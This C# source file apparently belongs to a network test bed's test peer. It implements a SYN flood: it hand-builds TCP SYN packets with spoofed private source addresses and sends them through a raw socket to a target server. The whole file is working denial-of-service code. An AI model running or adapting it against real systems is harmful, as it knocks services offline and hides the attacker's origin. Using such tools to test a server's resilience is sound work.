using System;
using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;

namespace Penstock.TestPeer.Moves;

/// <summary>SYNs from addresses that nobody has, each the first and last word of its flow. IPv4; needs CAP_NET_RAW.</summary>
internal static class SynFlood
{
    private const int IpHeader = 20;
    private const int TcpHeader = 20;
    private const int Tcp = 6;

    public static void Run(IPEndPoint server, int count)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw);
        socket.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);
        byte[] packet = new byte[IpHeader + TcpHeader];
        packet[0] = 0x45;
        packet[8] = 64;
        packet[9] = Tcp;
        server.Address.TryWriteBytes(packet.AsSpan(16), out _);
        Span<byte> segment = packet.AsSpan(IpHeader);
        BinaryPrimitives.WriteUInt16BigEndian(segment[2..], (ushort)server.Port);
        segment[12] = TcpHeader / 4 << 4;
        segment[13] = 2;
        BinaryPrimitives.WriteUInt16BigEndian(segment[14..], 64240);
        for (int i = 0; i < count; i++)
        {
            // 172.16.0.0/12: private, and not in the bed.
            BinaryPrimitives.WriteUInt32BigEndian(packet.AsSpan(12), 0xac100000u + (uint)(i % 1_000_000));
            BinaryPrimitives.WriteUInt16BigEndian(segment, (ushort)(1024 + i % 60_000));
            BinaryPrimitives.WriteUInt32BigEndian(segment[4..], (uint)i * 2654435761);
            BinaryPrimitives.WriteUInt16BigEndian(segment[16..], 0);
            BinaryPrimitives.WriteUInt16BigEndian(segment[16..], Checksum(packet));
            socket.SendTo(packet, server);
        }
        Console.WriteLine($"flooded {count}");
    }

    private static ushort Checksum(ReadOnlySpan<byte> packet)
    {
        uint sum = Tcp + TcpHeader;
        for (int i = 12; i < packet.Length; i += 2)
            sum += BinaryPrimitives.ReadUInt16BigEndian(packet[i..]);
        sum = (sum & 0xffff) + (sum >> 16);
        return (ushort)~((sum & 0xffff) + (sum >> 16));
    }
}
